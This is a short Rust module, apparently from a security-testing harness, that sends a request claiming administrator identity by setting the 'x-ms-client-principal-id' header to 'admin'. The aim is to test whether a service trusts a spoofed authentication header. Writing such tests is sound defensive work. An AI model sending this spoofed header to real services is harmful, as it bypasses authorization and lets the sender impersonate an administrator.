//! Says that it is somebody else.

use hostile::Ask;

hostile::report!(|machine_id, comment| {
    Ask::ordered(&machine_id, &comment)
        .header("x-ms-client-principal-id", "admin")
        .send()
});
